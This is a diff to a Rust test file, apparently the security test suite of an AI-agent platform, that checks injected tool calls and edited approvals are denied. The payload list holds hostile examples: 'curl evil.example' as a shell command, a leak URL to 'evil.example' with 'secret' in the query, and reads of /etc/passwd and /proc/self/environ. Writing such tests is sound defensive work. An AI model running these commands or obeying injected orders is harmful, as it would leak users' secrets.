@@ -4,6 +4,7 @@
 use std::collections::HashSet;
 
 use capx_core::domain::ids::CompanyId;
+use capx_workers::mcp::McpServers;
 use serde_json::{Value, json};
 
 use crate::harness::witness::Witness;
@@ -242,6 +243,9 @@ fn payloads() -> Vec<Value> {
     for name in ["shell_run", "code_execute", "deploy", "approve", "send_email", "mcp:x/y", "../file_read"] {
         payloads.push(json!({"name": name, "input": {"command": "curl evil.example"}}));
     }
+    for name in ["mcp_wiki_edit", "mcp_wiki_look-up", "mcp_wiki_broken"] {
+        payloads.push(json!({"name": name, "input": {"q": "https://evil.example/?leak=secret"}}));
+    }
     for path in ["../../etc/passwd", "/etc/passwd", "a/../../b", "/proc/self/environ", "..", "a\u{1}b"] {
         payloads.push(json!({"name": "file_read", "input": {"path": path}}));
         payloads.push(json!({"name": "file_write", "input": {"path": path, "content": "x"}}));
@@ -267,7 +271,10 @@ fn payloads() -> Vec<Value> {
 async fn a_model_that_obeys_every_injected_order_does_nothing_that_nobody_has_let() {
     let db = Db::new().await;
     let witness = Witness::start(&[]).await;
-    let _worker = db.worker(SHORT_LEASE);
+    let (url, servers) = crate::mcp::http_server().await;
+    let wiki = json!({"url": url, "headers": {"Authorization": "Bearer open"}});
+    let file = json!({"mcpServers": {"wiki": wiki}}).to_string();
+    let _worker = db.worker_with_mcp(McpServers::read(&file, true).unwrap());
     let api = db.api().await;
     let payloads = payloads();
     assert!(payloads.len() >= 100);
@@ -284,6 +291,8 @@ async fn a_model_that_obeys_every_injected_order_does_nothing_that_nobody_has_le
     turns.push(json!({"output": {"obeyed": true}}));
     let mut agent = agent("a", "work", json!(turns));
     agent["config"]["max_turns"] = 200.into();
+    agent["config"]["tools"] =
+        json!(["file_read", "file_write", "http_request", "shell_run", "code_execute", "send_message", "mcp:wiki/*"]);
     let company = company(&api, governance, json!([agent])).await;
     let (_, started) = run(&api, company, STEP).await;
     // Whatever it asks a person for is refused.
@@ -305,6 +314,33 @@ async fn a_model_that_obeys_every_injected_order_does_nothing_that_nobody_has_le
     }
     assert!(calls.len() > 100, "every order was obeyed: {}", calls.len());
     assert_eq!(witness.calls().len(), 0, "no byte has left");
+    let denied = |(name, response): &&(String, Value)| name.contains("wiki") && response.to_string().contains("forbids");
+    let of_server = calls.iter().filter(denied).count();
+    assert!(of_server >= 3 && servers.lock().unwrap().is_empty(), "no tool of a server was used: {of_server}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_a_person_wants_instead_is_held_to_the_same_rules() {
+    let db = Db::new().await;
+    let (witness, listed) = (Witness::start(&[]).await, Witness::start(&[]).await);
+    let _worker = db.worker(SHORT_LEASE);
+    let api = db.api().await;
+    let governance = json!({"approval_required": ["outbound"], "execution_policy": {"allowed_hosts": ["localhost"]}});
+    let url = listed.url.replace("127.0.0.1", "localhost");
+    let turns = json!([post(&url), post(&url), {"output": {"done": true}}]);
+    let company = company(&api, governance, json!([agent("a", "work", turns)])).await;
+    let (_, started) = run(&api, company, STEP).await;
+    for instead in [&witness.url, &url] {
+        let asked = pending(&api, company, 1).await.remove(0);
+        let edited = json!({"method": "POST", "url": instead, "body": {"n": 2}});
+        assert_eq!(approve(&api, &asked, json!({"params": edited})).await.0, 200);
+    }
+    assert_eq!(of_run(&api, &started, 30).await["status"], "completed");
+    assert_eq!((witness.calls().len(), listed.calls().len()), (0, 1));
+    let (_, log) = api.get(&format!("/v1/companies/{company}/audit?limit=100")).await;
+    let of = |kind: &str| log["data"].as_array().unwrap().iter().filter(|entry| entry["kind"] == kind).count();
+    assert_eq!((of("call.denied"), of("call.made")), (1, 1), "{log}");
+    assert!(log.to_string().contains("params_sha256"), "{log}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
